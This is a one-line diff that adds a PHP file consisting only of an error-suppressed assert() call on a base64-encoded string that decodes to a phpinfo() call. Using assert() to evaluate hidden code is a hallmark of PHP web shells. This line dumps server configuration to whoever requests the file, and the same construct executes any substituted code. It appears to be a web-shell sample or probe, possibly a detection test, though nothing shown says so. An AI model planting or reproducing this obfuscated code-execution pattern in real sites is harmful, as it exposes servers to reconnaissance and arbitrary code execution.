@@ -1,0 +1,1 @@
+<?php @assert(base64_decode('cGhwaW5mbygpOw=='));
